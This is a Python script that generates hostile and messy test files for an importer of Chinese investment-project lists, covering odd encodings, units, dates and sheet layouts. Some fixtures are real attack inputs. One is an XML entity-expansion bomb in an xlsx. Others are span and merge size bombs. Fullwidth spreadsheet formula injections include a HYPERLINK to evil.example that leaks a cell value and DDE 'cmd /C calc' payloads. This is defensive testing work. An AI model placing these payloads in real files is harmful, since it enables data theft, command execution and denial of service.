"""Writes the import test corpus: project lists shaped like the ones provinces and cities publish.

Run ``python tests/corpus/make_corpus.py`` after changing it; the generated files are committed so
that the tests read real bytes (GBK, UTF-16, xlsx, xls) rather than strings made at test time.
"""

from __future__ import annotations

import datetime as dt
import io
import zipfile
from pathlib import Path

HERE = Path(__file__).resolve().parent

# ------------------------------------------------------------------------------ writers the rounds share
# A round's writer builds its files from these (earlier rounds' own names for them, _HEAD8 … _xlsx11, stay
# as aliases below for writers that use them).

HEADER = ["项目名称", "建设地点", "总投资（万元）", "建设起止年限"]
HEAD = ",".join(HEADER) + "\n"  # the four columns most hostile files keep, as a CSV header line


def lines(*rows: str) -> str:
    """CSV lines, each ended by a newline."""
    return "".join(row + "\n" for row in rows)


def workbook(rows: list[list], title: str | None = None, merges: tuple[str, ...] = ()) -> object:
    """An openpyxl workbook of one sheet holding ``rows`` (titled ``title`` if given), ``merges`` merged."""
    import openpyxl

    book = openpyxl.Workbook()
    ws = book.active
    if title is not None:
        ws.title = title
    for row in rows:
        ws.append(row)
    for cells in merges:
        ws.merge_cells(cells)
    return book


def xlsx_bytes(book: object) -> bytes:
    """A workbook's .xlsx bytes."""
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def save_sheet(path: Path, title: str | None, rows: list[list], merges: tuple[str, ...] = ()) -> None:
    """:func:`workbook` saved at ``path``."""
    workbook(rows, title, merges).save(path)


def html_export(body: str) -> str:
    """An Excel HTML export (an .xls that is a web page) around ``body``, UTF-8."""
    return ('<html xmlns:x="urn:schemas-microsoft-com:office:excel"><head><meta charset="utf-8"></head>'
            f"<body>{body}</body></html>")


def write_csvs(files: dict[str, tuple[list[list], str]]) -> None:
    """Each file name -> (rows, encoding): CSV with CRLF line ends, as a published list is saved."""
    import csv

    for name, (rows, encoding) in files.items():
        out = io.StringIO()
        csv.writer(out, lineterminator="\r\n").writerows(rows)
        (HERE / name).write_bytes(out.getvalue().encode(encoding))

GBK_TITLE_TOTAL = """江苏省2024年重大产业项目投资计划表
单位：万元
序号,项目名称,建设地点,总投资,2024年计划投资,建设性质,建设起止年限,项目单位,建设内容,备注
一、新开工项目,,,,,,,,,
1,苏州晶圆级先进封装测试项目,苏州市工业园区,150000,50000,,2024-2026,苏州华芯微电子有限公司,建设12英寸晶圆级封装测试生产线,
2,南京生物医药创新中心,南京市江北新区,80000,20000,,2024-2027,南京药谷生物科技有限公司,建设创新药研发平台及中试基地,省重点
小计,,,230000,70000,,,,,
二、续建项目,,,,,,,,,
3,无锡风电装备制造基地,无锡市,200000,60000,,2022-2025,无锡海创重工有限公司,年产风电机组200台套,
4,常州动力电池二期项目,常州市金坛区,300000,100000,竣工,2021-2024,常州新锐锂电有限公司,年产20GWh动力电池,
5,徐州市民服务中心配套道路工程,徐州市,12000,5000,,2023-2025,徐州市城建集团,道路及配套管网,
,,,,,,,,,
合计,,,742000,235000,,,,,
"""

UTF8_BOM_ENGLISH = """\
No.,Project name,Location,Total investment (100 million CNY),Stage,Construction period,Developer,Sector,\
Description
1,Hefei 12-inch DRAM wafer fab phase II,"Hefei, Anhui",120,Under construction,2023-2026,Changxin Memory,\
New-generation IT,DRAM production line
2,Baotou rare-earth permanent magnet project,Inner Mongolia,25.5,New,2024-2025,Baotou Rare Earth Co,New materials,
3,Suzhou biomedicine park,"Suzhou, Jiangsu",8,Planned,2025-2027,Suzhou BioBay,Biotech,
4,Shenzhen hydrogen fuel cell plant,Shenzhen,15,completed,2021-2023,Shenzhen Hydrogen Co,New energy,
"""

UTF16_TAB = [
    ["项目名称", "所在地", "计划总投资（万元）", "年度计划投资（万元）", "中央预算内投资（万元）",
     "银行贷款（万元）", "自筹资金（万元）", "项目阶段", "开工年份", "竣工年份", "所属领域", "所属集群"],
    ["合肥新型显示模组项目", "安徽省合肥市", "50000", "10000", "5000", "30000", "15000", "在建", "2023", "2025",
     "新一代信息技术", ""],
    ["武汉光谷基因检测平台", "湖北省武汉市东湖新技术开发区", "20000", "8000", "", "10000", "10000", "续建", "2022",
     "2025", "生物", "武汉市光谷生物产业集群"],
    ["西安航空发动机叶片项目", "陕西省西安市", "35000", "", "", "", "35000", "前期", "2025", "2027",
     "高端装备制造", ""],
]

MESSY_AMOUNTS = """项目名称,建设地点,总投资,年度计划投资,建设起止年限
甲数据中心项目,北京市海淀区,"1,250,000",,2023-2026
乙集成电路项目,上海,1.2亿,,2023年—2026年
丙光伏组件项目,广东省深圳市,3000万,,2023.3-2025.12
丁储能电站项目,浙江杭州,约5亿元,,2024年3月
戊生物制药项目,湖北武汉,超10亿元,,2024
己新材料项目,四川成都,2000多万元,,2022-2024
庚机器人项目,陕西西安,总投资 3 亿元,,2023-2025
辛锂电池项目,安徽合肥,１２３４５,,2024-2026
壬氢能项目,湖南长沙,30亿元至50亿元,,2024-2028
癸外资芯片项目,天津,1.5亿美元,,2024-2026
子动漫产业园项目,重庆,"3,000",800,2025-2027
丑未知金额项目,河南郑州,一大笔,,2024-2025
寅负数项目,山东济南,-500,,2024-2025
卯单位错误项目,福建福州,500000000,,2024
辰年份颠倒项目,江西南昌,2000,,2026-2024
巳待定项目,河北石家庄,待定,,2024
"""

UNKNOWN_PLACES = """序号,项目名称,建设地点,总投资（万元）
1,甲项目,江苏省南京市,1000
2,乙项目,火星基地,2000
3,丙项目,鼓楼区,3000
4,丁项目,,4000
5,戊项目,Atlantis,100
6,,江苏苏州,100
7,己项目,Jiangsu,500
"""

HEADER_ONLY = "序号,项目名称,建设地点,总投资（万元）,建设性质\r\n"

NO_NAME_COLUMN = """序号,建设地点,总投资（万元）,建设性质
1,江苏省南京市,1000,新建
2,浙江省杭州市,2000,续建
"""

# A PNG's first bytes, then noise: what a mis-named screenshot looks like.
BINARY = bytes.fromhex("89504e470d0a1a0a0000000d49484452") + bytes(range(256)) * 8


def write_xlsx(path: Path) -> None:
    import openpyxl
    from openpyxl.styles import Alignment, Font

    book = openpyxl.Workbook()
    notes = book.active
    notes.title = "填報說明"
    for i, line in enumerate(["1. 本表由各市發展改革委填報。", "2. 金額單位為億元。", "3. 請勿修改表頭。"], 1):
        notes.cell(i, 1, line)
    ws = book.create_sheet("項目清單")
    ws.merge_cells("A1:H1")
    ws["A1"] = "2024年浙江省重點項目清單"
    ws["A1"].font = Font(bold=True, size=14)
    ws["A1"].alignment = Alignment(horizontal="center")
    header = ["序號", "項目名稱", "建設地點", "總投資（億元）", "建設性質", "開工時間", "竣工時間", "所屬領域"]
    for col, text in enumerate(header, 1):
        ws.cell(2, col, text)
    rows = [
        [1, "杭州智能網聯汽車測試基地", "杭州市", 12.5, "新建", dt.datetime(2024, 3, 1), "2026年12月", "新能源汽車"],
        [2, "寧波石墨烯材料產業園", "寧波市北侖區", 8, "續建", dt.datetime(2023, 6, 15), "2025年6月", "新材料"],
        [3, "溫州數字文化創意園", "溫州市", 3.2, "新建", dt.datetime(2024, 1, 10), "2025年12月", "數字創意"],
    ]
    for r, row in enumerate(rows, 3):
        for col, value in enumerate(row, 1):
            ws.cell(r, col, value)
    ws.cell(6, 2, "合計")
    ws.cell(6, 4, 25)  # the rows add up to 23.7: the total row is wrong, which is a warning
    book.save(path)


def write_xls(path: Path) -> None:
    """A legacy .xls (BIFF8) as older systems still export: title row merged, amounts in 亿元.

    Needs ``pip install xlwt`` (only to regenerate; the tests read the committed file with xlrd).
    """
    import xlwt

    book = xlwt.Workbook(encoding="utf-8")
    sheet = book.add_sheet("重点项目")
    sheet.write_merge(0, 0, 0, 4, "湖北省2025年省级重点项目清单")
    for col, head in enumerate(["序号", "项目名称", "建设地点", "总投资（亿元）", "建设起止年限"]):
        sheet.write(1, col, head)
    rows = [
        (1, "武汉新型显示面板产业化项目", "武汉市东湖新技术开发区", 120.5, "2025-2028"),
        (2, "襄阳新能源汽车动力电池项目", "襄阳市", 45, "2024-2026"),
        (3, "宜昌磷酸铁锂正极材料项目", "宜昌市", 30.2, "2025-2027"),
    ]
    for r, row in enumerate(rows, start=2):
        for col, value in enumerate(row):
            sheet.write(r, col, value)
    sheet.write(5, 0, "合计")
    sheet.write(5, 3, 195.7)
    book.save(str(path))


# ----------------------------------------------------------------------------------------- issue 12
# One file per class of real-list trouble or hostile input; tests/test_import_hostile.py states the
# exact outcome of each.

PER_ROW_UNITS = """序号,项目名称,建设地点,总投资,单位,建设起止年限
1,苏州先进封装测试基地,江苏省苏州市,15,亿元,2024-2026
2,杭州智能传感器产业园,浙江省杭州市,3000,万元,2025-2027
3,合肥储能电池工厂,安徽省合肥市,250000000,元,2024-2025
4,外资半导体材料项目,上海市,5000,万美元,2024-2026
5,外资新能源整车项目,广东省广州市,1.2,亿美元,2025-2028
6,宁波新材料中试线,浙江省宁波市,"8,000",人民币万元,2024-2025
7,某产能项目,江苏省南京市,50,万吨,2024-2025
"""

UNIT_CURRENCY_EN = """Project name,Province,City,Amount,Unit,Currency,Start,End
Ordos coal-to-hydrogen demonstration,Inner Mongolia,Ordos,2.5,billion,CNY,2024-03,2026-12
Harbin aero-engine parts plant,Heilongjiang,Harbin,800,million,USD,2025-01-15,2027-06-30
Nanning EV battery recycling,Guangxi,Nanning,12,100 million,RMB,202501,202712
Lhasa solar microgrid,Tibet,Lhasa,6000,10k,CNY,2024.6,2025.12
Urumqi wind turbine blades,Xinjiang,Urumqi,30,million,EUR,2025,2026
"""

YEAR_MONTHS = """项目名称,建设地点,总投资（万元）,建设起止年限,开工时间,竣工时间
甲数据中心,北京市,1000,2024-12,,
乙智能工厂,上海市,2000,2024.03-2026.12,,
丙光伏电站,河北省石家庄市,3000,2025年1月-2026年12月,,
丁生物药厂,湖北省武汉市,4000,,2024-12-01,2026-12-31
戊机器人项目,广东省深圳市,5000,,202503,202712
己储能项目,江苏省南京市,6000,2024-26,,
"""

ENGLISH_PLACES_SECTORS = """Project,Province,City,Investment (CNY 10k),Sector,Period
Ordos hydrogen trucks,Inner Mongolia,Ordos,50000,Intelligent and new energy vehicles,2024-2026
Harbin robot plant,Heilongjiang,Harbin,30000,High-end equipment,2025-2027
Nanning biopharma base,Guangxi Zhuang Autonomous Region,Nanning,20000,Bio-pharmaceutical industry,2024-2025
Lhasa data center,Xizang,Lhasa,10000,Next generation IT,2025-2026
Yinchuan graphite anode plant,Ningxia,Yinchuan,15000,New materials industry,2024-2026
Kashgar solar park,Xinjiang,Kashgar,25000,New Energy,2024-2025
Hong Kong chip design hub,Hong Kong,,8000,Integrated circuits,2025-2027
Macau digital content studio,Macau,,3000,Digital creativity,2025-2026
Hohhot dairy biotech,Inner Mongolia,Hohhot,12000,Biotechnology,2024-2026
"""

TWO_ROW_HEADER = """2025年某省重点项目表,,,,,,
序号,项目名称,建设地点,投资（亿元）,,建设年限,
,,,总投资,2025年计划,开工,竣工
1,新型显示面板项目,安徽省合肥市,120,30,2024,2027
2,动力电池回收项目,湖南省长沙市,15.5,5,2025,2026
"""

GROUPING = """项目名称,建设地点,总投资（万元）
甲项目,江苏省南京市,"1,2,3"
乙项目,江苏省苏州市,"1,250,000"
丙项目,江苏省无锡市,12 5
"""

DUPLICATE_COLUMNS = """项目名称,建设地点,总投资（万元）,备注,备注,总投资（万元）
甲项目,江苏省南京市,1000,第一列,第二列,9999
乙项目,江苏省苏州市,2000,,,8888
"""

SANITY = ("项目名称,建设地点,总投资（万元）,建设起止年限\n"
          "零投资项目,江苏省南京市,0,2024-2025\n"
          "年份太早项目,江苏省苏州市,100,1900-2025\n"
          "年份太晚项目,江苏省无锡市,100,2024-2099\n"
          + "超长" * 120 + "项目,江苏省常州市,100,2024-2025\n"
          "控制\x07字符\x1b项目,江苏省徐州市,100,2024-2025\n"
          "正常项目,江苏省扬州市,100,2024-2025\n")

NO_PLACE = """项目名称,总投资（万元）,建设性质
甲项目,1000,新建
乙项目,2000,续建
"""

UNBALANCED_QUOTE = """项目名称,建设地点,总投资（万元）
甲项目,江苏省南京市,1000
"乙项目,江苏省苏州市,2000
丙项目,江苏省无锡市,3000
丁项目,"江苏省常州市",4000
"""

MULTILINE_CELL = """项目名称,建设地点,总投资（万元）,建设内容
甲项目,江苏省南京市,1000,"建设厂房
及配套设施"
乙项目,江苏省苏州市,2000,研发中心
"""

SIMPLE = """项目名称,建设地点,总投资（万元）,建设起止年限
南京集成电路设计中心,江苏省南京市,1000,2024-2026
苏州生物医药产业园,江苏省苏州市,2000,2025-2027
"""

LATIN1 = """Project name,Location,Total investment (CNY 10k),Owner
Qingdao wind blades,Qingdao,1000,Société Générale Énergie
Tianjin hydrogen plant,Tianjin,2000,Müller & Söhne GmbH
"""


def write_hostile() -> None:
    import io
    import zipfile

    (HERE / "per_row_units.csv").write_bytes(PER_ROW_UNITS.encode("gbk"))
    (HERE / "unit_currency_en.csv").write_bytes(UNIT_CURRENCY_EN.encode("utf-8"))
    (HERE / "year_months.csv").write_bytes(YEAR_MONTHS.encode("utf-8"))
    (HERE / "english_places_sectors.csv").write_bytes(ENGLISH_PLACES_SECTORS.encode("utf-8"))
    (HERE / "two_row_header.csv").write_bytes(TWO_ROW_HEADER.encode("utf-8-sig"))
    (HERE / "grouping.csv").write_bytes(GROUPING.encode("utf-8"))
    (HERE / "duplicate_columns.csv").write_bytes(DUPLICATE_COLUMNS.encode("utf-8"))
    (HERE / "sanity.csv").write_bytes(SANITY.encode("utf-8"))
    (HERE / "no_place_column.csv").write_bytes(NO_PLACE.encode("utf-8"))
    (HERE / "unbalanced_quote.csv").write_bytes(UNBALANCED_QUOTE.encode("utf-8"))
    (HERE / "multiline_cell.csv").write_bytes(MULTILINE_CELL.encode("utf-8"))
    # A field far over Python's csv limit (131,072 characters) in the description column.
    long_text = SIMPLE.replace("2024-2026\n", "2024-2026\n", 1).rstrip("\n").split("\n")
    long_text[0] += ",建设内容"
    long_text[1] += "," + "建设" * 70_000
    long_text[2] += ",研发中心"
    (HERE / "long_field.csv").write_bytes(("\n".join(long_text) + "\n").encode("utf-8"))
    utf16 = SIMPLE.replace(",", "\t").encode("utf-16")
    (HERE / "odd_utf16.txt").write_bytes(utf16 + b"\x41")          # one byte too many: cut off mid-character
    (HERE / "utf32.csv").write_bytes(SIMPLE.encode("utf-32"))
    (HERE / "bom_mismatch.csv").write_bytes(b"\xef\xbb\xbf" + SIMPLE.encode("gbk"))   # says UTF-8, is GBK
    (HERE / "utf16_bom_utf8_body.csv").write_bytes(b"\xff\xfe" + SIMPLE.encode("utf-8"))
    lines = SIMPLE.splitlines(keepends=True)
    (HERE / "mixed_encoding.csv").write_bytes(lines[0].encode("utf-8") + lines[1].encode("utf-8")
                                              + lines[2].encode("gbk"))
    (HERE / "latin1.csv").write_bytes(LATIN1.encode("latin-1"))
    padding = "".join(f"南京市第{i}号配套项目,江苏省南京市,10,2024-2025\n" for i in range(200))
    body = (SIMPLE + padding).encode("utf-8")
    cut = body.index(b"\n", 5000) + 1        # a NUL well after the first 4 KB, inside a name
    (HERE / "nul_bytes.csv").write_bytes(body[:cut + 3] + b"\x00" + body[cut + 3:])
    # Workbooks: one whose sheet XML is cut off, one with an entity-expansion bomb.
    good = xlsx_bytes(workbook([["项目名称", "建设地点", "总投资（万元）"], ["甲项目", "江苏省南京市", 1000]] + [
        [f"项目{i}", "江苏省苏州市", i] for i in range(200)]))
    parts = {}
    with zipfile.ZipFile(io.BytesIO(good)) as z:
        for name in z.namelist():
            parts[name] = z.read(name)
    sheet = "xl/worksheets/sheet1.xml"

    def repack(path: Path, replaced: bytes) -> None:
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
            for name, data in parts.items():
                z.writestr(name, replaced if name == sheet else data)
        path.write_bytes(out.getvalue())

    repack(HERE / "truncated_sheet.xlsx", parts[sheet][: len(parts[sheet]) // 2])
    lol = b'<!DOCTYPE lolz [<!ENTITY lol "lol">' + b"".join(
        b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10) for i in range(1, 10)) + b"]>"
    body = parts[sheet]
    start = body.index(b"?>") + 2 if body.startswith(b"<?xml") else 0
    bomb = (body[:start] + lol + body[start:]).replace(b"<v>1000</v>", b"<v>&lol9;</v>", 1)
    repack(HERE / "entity_bomb.xlsx", bomb)
    write_two_row_xlsx(HERE / "two_row_header.xlsx")
    # A legacy workbook with trailing bytes: xlrd complains about its size (to stdout, unless told otherwise).
    (HERE / "legacy_padded.xls").write_bytes((HERE / "legacy_hubei.xls").read_bytes() + b"\x00" * 100)


def write_two_row_xlsx(path: Path) -> None:
    """A merged group header (投资（亿元）over 总投资 and 年度计划) and name cells merged down two rows."""
    import openpyxl

    book = openpyxl.Workbook()
    ws = book.active
    ws.title = "重点项目"
    ws.merge_cells("A1:F1")
    ws["A1"] = "2025年重点产业项目清单"
    for col, text in enumerate(["序号", "项目名称", "建设地点"], 1):
        ws.merge_cells(start_row=2, start_column=col, end_row=3, end_column=col)
        ws.cell(2, col, text)
    ws.merge_cells("D2:E2")
    ws["D2"] = "投资（亿元）"
    ws["D3"], ws["E3"] = "总投资", "年度计划"
    ws.merge_cells("F2:F3")
    ws["F2"] = "建设起止年限"
    ws.append([1, "长沙先进储能材料项目", "湖南省长沙市", 20, 5, "2025-2027"])
    ws.append([2, "株洲轨道交通装备项目", "湖南省株洲市", 8.5, 2, "2024-2026"])
    book.save(path)


# ------------------------------------------------------------------------------- hostile corpus, round 2
# Classes an outside corpus found after the speed passes: one file each; tests/test_import_hostile2.py.

PIPE_SEPARATED = """序号|项目名称|建设地点|总投资（万元）|建设起止年限
1|南京集成电路设计中心|江苏省南京市|1000|2024-2026
2|苏州生物医药产业园|江苏省苏州市|2000|2025-2027
"""

INFINITE_AMOUNTS = """项目名称,建设地点,总投资（万元）,建设起止年限
无穷项目,江苏省南京市,inf,2024-2026
溢出项目,江苏省南京市,1e999,2024-2026
正常项目,江苏省南京市,8000,2024-2026
"""

# Chinese text in UTF-16 without a BOM: few zero bytes (only the ASCII ones), all at odd offsets.
UTF16_NO_BOM = """项目名称,建设地点,总投资（万元）,建设起止年限
南京集成电路设计中心项目,江苏省南京市,1000,2024-2026
苏州生物医药产业园项目,江苏省苏州市,2000,2025-2027
无锡物联网感知产业基地项目,江苏省无锡市,3000,2025-2027
"""

INVISIBLE = ("项目\u200b名称,建设\u2060地点,总投资（万元）\n"
             "\u202e目项站电能储\u202c,江苏省南京市,1000\n"
             "零宽\u200d连接项目,江苏省苏州市,2000\n"
             "方向\u200f标记项目,江苏省无锡市,3000\n")

PLACES_COUNTY_OLD = """项目名称,建设地点,总投资（万元）
义乌物流智慧项目,义乌,1000
浙江长兴储能项目,浙江长兴,2000
襄樊旧名项目,湖北省襄樊市,3000
莱芜旧名项目,山东省莱芜市,4000
"""

PLAN_YEARS_AMOUNTS = """项目名称,建设地点,总投资,开工时间,竣工时间
亿加万项目,江苏省南京市,1亿2000万,十四五期间,
亿零万项目,江苏省苏州市,3亿零500万元,2024-2026年,
"""

HTML_EXPORT = ("<html><head><meta http-equiv='Content-Type' content='text/html; charset=gbk'></head><body>"
               "<table border=1><tr><td colspan=4>2025年重点项目清单</td></tr>"
               "<tr><th>项目名称</th><th>建设地点</th><th>总投资（万元）</th><th>建设起止年限</th></tr>"
               "<tr><td>南京集成电路设计中心</td><td rowspan=2>江苏省南京市</td><td>1,000</td>"
               "<td rowspan=2>2024-2026</td></tr>"
               "<tr><td>南京生物医药产业园</td><td>2000</td></tr>"
               "<tr><td>苏州&amp;无锡联合<br>储能项目</td><td>江苏省苏州市</td><td>3000</td><td>2025-2027</td></tr>"
               "</table></body></html>")


def write_hostile2() -> None:
    import io
    import struct
    import zipfile

    import openpyxl

    (HERE / "pipe_separated.csv").write_bytes(PIPE_SEPARATED.encode("utf-8"))
    (HERE / "infinite_amounts.csv").write_bytes(INFINITE_AMOUNTS.encode("utf-8"))
    (HERE / "utf16le_no_bom.csv").write_bytes(UTF16_NO_BOM.encode("utf-16-le"))
    (HERE / "utf16be_no_bom.csv").write_bytes(UTF16_NO_BOM.encode("utf-16-be"))
    damaged = SIMPLE.encode("utf-8")
    at = damaged.index("苏州".encode())
    (HERE / "utf8_damaged.csv").write_bytes(damaged[:at] + b"\xff" + damaged[at:])   # one stray byte in a name
    (HERE / "invisible_chars.csv").write_bytes(INVISIBLE.encode("utf-8"))
    (HERE / "county_old_names.csv").write_bytes(PLACES_COUNTY_OLD.encode("utf-8"))
    (HERE / "plan_years_amounts.csv").write_bytes(PLAN_YEARS_AMOUNTS.encode("utf-8"))
    (HERE / "html_export.xls").write_bytes(HTML_EXPORT.encode("gbk"))
    # one header cell in the last column (XFD) over 1,000 rows: every row would be 16,384 cells wide
    far = openpyxl.Workbook()
    far.active.append(["项目名称", "建设地点", "总投资（万元）"])
    for i in range(1000):
        far.active.append([f"远列项目{i}", "江苏省南京市", 100])
    far.active.cell(row=1, column=16384, value="备注")
    far.save(HERE / "far_right_cell.xlsx")
    # a few kilobytes of inflated spans: 400 cells of colspan 1000 over 400 rows would pad out to 160M cells
    (HERE / "html_span_bomb.xls").write_bytes(
        ("<html><table><tr><td>项目名称</td><td>建设地点</td><td>总投资（万元）</td></tr><tr>"
         + "<td colspan=1000>x</td>" * 400 + "</tr>" + "<tr><td>项目</td></tr>" * 400 + "</table></html>"
         ).encode("utf-8"))
    # .xls error and boolean cells: three RK amounts of legacy_hubei.xls rewritten in place as BOOLERR
    # records (#DIV/0!, #REF!, TRUE), same length, so the rest of the file stays as it was.
    legacy = bytearray((HERE / "legacy_hubei.xls").read_bytes())
    rk = [m for m in range(len(legacy) - 14) if legacy[m:m + 4] == b"\x7e\x02\x0a\x00"
          and struct.unpack("<H", legacy[m + 6:m + 8])[0] == 3][:3]
    for offset, (value, is_error) in zip(rk, [(0x07, 1), (0x17, 1), (1, 0)], strict=True):
        row, col, xf = struct.unpack("<HHH", legacy[offset + 4:offset + 10])
        legacy[offset:offset + 14] = struct.pack("<HHHHHBBH", 0x0205, 10, row, col, xf, value, is_error, 0)
    (HERE / "legacy_error_cells.xls").write_bytes(bytes(legacy))

    def saved(book: openpyxl.Workbook) -> bytes:
        out = io.BytesIO()
        book.save(out)
        return out.getvalue()

    # A hidden sheet (an old copy) before the visible list.
    book = openpyxl.Workbook()
    old = book.active
    old.title = "旧版"
    for row in [["项目名称", "建设地点", "总投资（万元）"], ["作废项目", "江苏省南京市", 999999]]:
        old.append(row)
    old.sheet_state = "hidden"
    new = book.create_sheet("清单")
    for row in [["项目名称", "建设地点", "总投资（万元）"], ["南京集成电路设计中心", "江苏省南京市", 1000]]:
        new.append(row)
    book.active = 1
    (HERE / "hidden_sheet.xlsx").write_bytes(saved(book))
    # Place and period merged down over three project rows; a merge claiming a million rows.
    book = openpyxl.Workbook()
    ws = book.active
    ws.append(["项目名称", "建设地点", "总投资（万元）", "建设起止年限"])
    ws.append(["合并甲项目", "江苏省南通市", 1000, "2024-2026"])
    ws.append(["合并乙项目", None, 2000, None])
    ws.append(["合并丙项目", None, 3000, None])
    ws.merge_cells("B2:B4")
    ws.merge_cells("D2:D4")
    parts = zipfile.ZipFile(io.BytesIO(saved(book)))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name in parts.namelist():
            data = parts.read(name)
            if name == "xl/worksheets/sheet1.xml":  # (openpyxl would write every cell of such a merge)
                data = data.replace(b'<mergeCells count="2">', b'<mergeCells count="3"><mergeCell ref="F1:F1048576"/>')
            z.writestr(name, data)
    (HERE / "merged_body.xlsx").write_bytes(out.getvalue())
    # merged_body.xls, the same list as an .xls with the same merges, is kept as committed: it was written
    # with xlwt 1.3.0 (ws.write_merge), which the project does not install.
    # Formulas without a saved result (as programs that do not calculate write them).
    book = openpyxl.Workbook()
    ws = book.active
    ws.append(["项目名称", "建设地点", "中央预算内投资", "地方配套", "总投资（万元）"])
    ws.append(["公式甲项目", "江苏省扬州市", 100, 200, "=C2+D2"])
    ws.append(["数值乙项目", "江苏省扬州市", 300, 400, 700])
    (HERE / "formulas_unsaved.xlsx").write_bytes(saved(book))
    # 2,000 extra columns beside the list (each column cost a regex parse and ~80 header normalisations).
    book = openpyxl.Workbook()
    ws = book.active
    ws.append(["项目名称", "建设地点", "总投资（万元）", *[f"附加列{i}" for i in range(2000)]])
    ws.append(["宽表甲项目", "江苏省南京市", 1000, *["x"] * 2000])
    ws.append(["宽表乙项目", "江苏省苏州市", 2000, *[""] * 1999, "末列"])
    (HERE / "very_wide.xlsx").write_bytes(saved(book))


# ------------------------------------------------------------------------------- hostile corpus, round 3
# The classes round 2 left refused or only warned about: one file each; tests/test_import_hostile3.py.

# Province abbreviations (简称) in a province column, beside a city column.
PROVINCE_ABBREVIATIONS = """项目名称,省份,城市,总投资（万元）,建设起止年限
苏锡先进封装项目,苏,无锡,1000,2024-2026
浙江省级储能项目,浙,,2000,2024-2026
沪上集成电路项目,沪,,3000,2024-2026
苏州城市名项目,,苏州,4000,2024-2026
苏省全称项目,苏省,南京市,5000,2024-2026
蜀地锂电项目,蜀,成都,6000,2024-2026
黔贵数据中心项目,黔,贵阳,7000,2024-2026
滇云光伏项目,滇,,8000,2024-2026
陇甘风电项目,陇,兰州,9000,2024-2026
秦陕航空项目,秦,西安,1100,2024-2026
蒙鄂尔多斯氢能项目,蒙,鄂尔多斯,1200,2024-2026
港岛芯片设计项目,港,,1300,2024-2026
苏北区域项目,苏北,,1400,2024-2026
京津冀协同项目,京津冀,,1500,2024-2026
"""

# The same in one place column, in the ways people write them.
PLACE_ABBREVIATIONS = """项目名称,建设地点,总投资（万元）
间隔号项目,苏·无锡,1000
空格项目,苏 无锡,2000
苏州名称项目,苏州市工业园区,3000
沪市项目,沪市,4000
渝项目,渝,5000
区名项目,苏/鼓楼区,6000
京区名项目,京 朝阳区,7000
粤深项目,粤-深圳,8000
苏某园区项目,苏某某园区,9000
"""

# Two-digit years in year columns; 24 as an amount and inside a name stays as it is.
TWO_DIGIT_YEARS = """项目名称,建设地点,总投资（万元）,开工年份,竣工年份,建设年限
撇号年份项目,江苏省南京市,24,'24,'26,
年月项目,江苏省苏州市,1000,24年3月,26年12月,
区间项目,江苏省无锡市,2000,,,24-26年
点号区间项目,江苏省常州市,3000,,,24.3-26.12
裸数字项目,江苏省徐州市,4000,24,26年,
年数项目,江苏省扬州市,5000,,,10年
九八年项目,江苏省镇江市,6000,98,99,
八五年项目,江苏省泰州市,7000,85,,
24小时智慧物流项目,江苏省盐城市,8000,2024,2026,
混合区间项目,江苏省淮安市,9000,,,24年至2026年
"""


def write_hostile3() -> None:

    (HERE / "province_abbreviations.csv").write_bytes(PROVINCE_ABBREVIATIONS.encode("utf-8"))
    (HERE / "place_abbreviations.csv").write_bytes(PLACE_ABBREVIATIONS.encode("gbk"))
    (HERE / "two_digit_years.csv").write_bytes(TWO_DIGIT_YEARS.encode("utf-8"))
    # Names around the hard bound: 1,000 characters (a warning), 1,001 and 100,000 (the row refused).
    rows = ["项目名称,建设地点,总投资（万元）", "正常名称项目,江苏省南京市,1000",
            "长" * 998 + "项目,江苏省苏州市,2000", "超" * 999 + "项目,江苏省无锡市,3000",
            "巨" * 99_998 + "项目,江苏省常州市,4000", "另一正常项目,江苏省徐州市,5000"]
    (HERE / "name_over_limit.csv").write_bytes(("\n".join(rows) + "\n").encode("utf-8"))
    # A 5,000-character name in a workbook (refused there too).
    save_sheet(HERE / "name_over_limit.xlsx", None, [
        ["项目名称", "建设地点", "总投资（万元）"], ["工作簿正常项目", "江苏省南京市", 1000],
        ["册" * 5000, "江苏省苏州市", 2000]])
    # A GBK file with two UTF-8 lines pasted in: most lines are GBK, and the message must say so.
    gbk_rows = SIMPLE.splitlines(keepends=True) + [f"南京第{i}号配套项目,江苏省南京市,10,2024-2025\n" for i in range(6)]
    utf8_rows = ["无锡物联网感知产业基地,江苏省无锡市,3000,2025-2027\n",
                 "常州动力电池二期项目,江苏省常州市,4000,2024-2026\n"]
    (HERE / "mixed_mostly_gbk.csv").write_bytes(b"".join(r.encode("gbk") for r in gbk_rows[:4])
                                                + utf8_rows[0].encode("utf-8")
                                                + b"".join(r.encode("gbk") for r in gbk_rows[4:])
                                                + utf8_rows[1].encode("utf-8"))
    # Names that start with the full-width forms of = + - @ (a formula, once a CJK spreadsheet folds them).
    (HERE / "fullwidth_formulas.csv").write_bytes((
        "项目名称,建设地点,总投资（万元）,项目单位\n"
        "＝HYPERLINK(http://evil.example/?q=A1),江苏省南京市,1000,＠SUM(1)\n"
        "＋cmd|' /C calc'!A0,江苏省苏州市,2000,普通单位\n"
        "－2＋3＋cmd|' /C calc'!A0,江苏省无锡市,3000,﹦1+1\n"
        "正常项目＝名称中间,江苏省常州市,4000,－\n").encode())


# ------------------------------------------------------------------------------------- real lists
# Classes found by importing lists transcribed from published pages (sheets of 集中开工, 签约 and 重点项目
# announcements): one synthetic file each; tests/test_import_lists.py.

# A group's numeral alone in the 序号 column, its heading and subtotal beside it, and an "其中" breakdown:
# each was stored as a project carrying the subtotal.
GROUP_NUMERALS = """徐州市2024年重点项目集中开工计划
单位：亿元
序号,项目名称,所在地,总投资,年度计划投资
一,新开工项目（2个）,,30,8
1,徐州高端装备产业园项目,江苏省徐州市,20,5
2,徐州智能传感器项目,江苏省徐州市,10,3
二,竣工项目（1个）,,50,10
,其中：10亿元以上项目1个,,50,10
3,徐州储能电池项目,江苏省徐州市,50,10
合计,,,80,18
"""

# A batch column left of the name: a project row whose first cell is "第一批" was taken for a section
# heading and dropped, and the 合计 in the name column was stored as a project.
BATCH_COLUMN = """批次,所在市,项目名称,总投资（亿元）
第一批,南京市,南京光电芯片项目,
第一批,南京市,南京生物制药项目,12
第一批,南京市,合计（2个）,12
第二批,苏州市,苏州氢能装备项目,8
"""

